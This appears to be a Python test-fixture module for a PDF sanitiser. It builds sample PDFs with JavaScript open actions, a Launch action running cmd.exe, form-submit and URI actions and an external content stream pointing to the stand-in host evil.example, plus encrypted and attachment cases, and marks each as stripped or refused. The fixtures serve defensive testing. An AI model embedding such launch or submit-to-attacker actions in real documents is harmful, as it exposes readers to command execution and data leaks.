"""Files that do something, carry something, ask for something, or are locked."""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Literal

from pikepdf import Array, Dictionary, Encryption, Name, Pdf, Permissions, String

from tests.adapters import papers
from tests.nasty.case import Nasty, refused, taken
from tests.nasty.raw import simple

SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert('x')"))
LAUNCH = Dictionary(S=Name.Launch, F=String("cmd.exe"))
ELSEWHERE = Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))
WEB = Dictionary(S=Name.URI, URI=String("http://evil.example"))
SUBMIT = Dictionary(S=Name.SubmitForm, F=String("http://evil.example"))
PASSWORD = "Душанбе-2026"
OLD_PASSWORD = "geheim"


def _catalog(**entries: object) -> Callable[[], bytes]:
    def change(pdf: Pdf) -> None:
        for key, value in entries.items():
            pdf.Root[f"/{key}"] = value

    return lambda: papers.changed(papers.paper("eins"), change)


def _linked(action: Dictionary) -> Callable[[], bytes]:
    return lambda: papers.annotated(
        papers.paper("eins"), Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action
    )


def _page_action() -> bytes:
    return papers.with_page(papers.paper("eins"), AA=Dictionary(O=LAUNCH))


def _names() -> bytes:
    return _catalog(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), SCRIPT]))))()


def _media(kind: Name) -> Callable[[], bytes]:
    return lambda: papers.annotated(papers.paper("eins"), Subtype=kind)


def _attached(*, folder: bool) -> Callable[[], bytes]:
    def change(pdf: Pdf) -> None:
        pdf.attachments["innen.pdf"] = papers.paper("innen")
        if folder:
            pdf.Root.Collection = Dictionary(Type=Name.Collection)

    return lambda: papers.changed(papers.paper("eins"), change)


def _xfa(*, live: bool) -> Callable[[], bytes]:
    def change(pdf: Pdf) -> None:
        pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp/>")
        if live:
            pdf.Root.NeedsRendering = True

    return lambda: papers.changed(papers.form("Name", waits=False), change)


def _locked(user: str, owner: str, revision: Literal[3, 6]) -> Callable[[], bytes]:
    """Encrypted under a seed of its own: the bytes differ each time, what they show does not."""

    def build() -> bytes:
        output = io.BytesIO()
        lock = Encryption(
            user=user, owner=owner, R=revision, aes=revision > 3, metadata=revision > 3,
            allow=Permissions(extract=False, print_highres=False),
        )  # fmt: skip
        with papers.opened(papers.paper("verschlossen")) as pdf:
            pdf.save(output, encryption=lock)
        return output.getvalue()

    return build


def _rights() -> bytes:
    """Locked by a server of rights, which no password opens."""
    return simple().replace(
        b"/Root 1 0 R >>", b"/Root 1 0 R /Encrypt << /Filter /FOPN_fLock /V 1 >> >>"
    )


def _damaged_lock() -> bytes:
    return _locked("", "x", 6)().replace(b"/V 5", b"/V 9")


def _hidden_note() -> bytes:
    return papers.annotated(papers.paper("eins"), Subtype=Name.Text, Contents=String("er lügt"))


def _signed() -> bytes:
    def sign(pdf: Pdf) -> None:
        field = pdf.Root.AcroForm.Fields[0]
        field.FT, field.V = Name.Sig, Dictionary(Type=Name.Sig)

    return papers.changed(papers.form("x", waits=False), sign)


def _orphan_field() -> bytes:
    """A field on the page, and no form that lists it."""
    return papers.form("x", waits=False).replace(b"/AcroForm", b"/OtherKey")


def _outside_contents() -> bytes:
    """The drawing lies in another file, which nobody may fetch."""
    external = b"<< /Length 0 /F (http://evil.example/page) >>\nstream\n\nendstream"
    return simple(contents=b"[4 0 R 6 0 R]", more={6: external})


ACTIVE: tuple[Nasty, ...] = (
    taken("opening script", _catalog(OpenAction=SCRIPT), removed=("javascript",)),
    taken("closing script", _catalog(AA=Dictionary(WC=SCRIPT)), removed=("javascript",)),
    taken("named script", _names, removed=("javascript",)),
    taken("page action", _page_action, removed=("actions",)),
    taken("launch", _linked(LAUNCH), removed=("actions",)),
    taken("submit", _linked(SUBMIT), removed=("actions",)),
    taken("other file", _linked(ELSEWHERE), removed=("actions",)),
    taken("web link", _linked(WEB), removed=("links",)),
    taken("rich media", _media(Name.RichMedia), removed=("media",)),
    taken("sound", _media(Name.Sound), removed=("media",)),
    taken("note", _hidden_note, removed=("comments",), alone=False),
    taken("attachment", _attached(folder=False), removed=("attachments",)),
    taken("signed", _signed, removed=("signature",)),
    taken("XFA with pages", _xfa(live=False)),
    taken("form that waits", lambda: papers.form("Größe", waits=True)),
    taken("field without form", _orphan_field),
    taken("outside contents", _outside_contents),
    taken("locked for change", _locked("", "owner", 6), repaired=("unlocked",)),
    taken("locked for change, old", _locked("", "owner", 3), repaired=("unlocked",)),
    taken("locked with nothing", _locked("", "", 6), repaired=("unlocked",)),
    taken("locked, opened", _locked(PASSWORD, "owner", 6), repaired=("password",),
          password=PASSWORD, alone=False),
    taken("locked, opened, old", _locked(OLD_PASSWORD, "owner", 3), repaired=("password",),
          password=OLD_PASSWORD, alone=False),
    refused("locked", _locked(PASSWORD, "owner", 6), "exhibit-encrypted"),
    refused("locked, old", _locked(OLD_PASSWORD, "owner", 3), "exhibit-encrypted"),
    refused("locked by a server", _rights, "exhibit-rights"),
    refused("damaged lock", _damaged_lock, "exhibit-rights"),
    refused("portfolio", _attached(folder=True), "exhibit-portfolio"),
    refused("XFA alone", _xfa(live=True), "exhibit-form"),
    refused("Cyrillic field", lambda: papers.form("Душанбе", waits=True), "exhibit-form"),
)  # fmt: skip
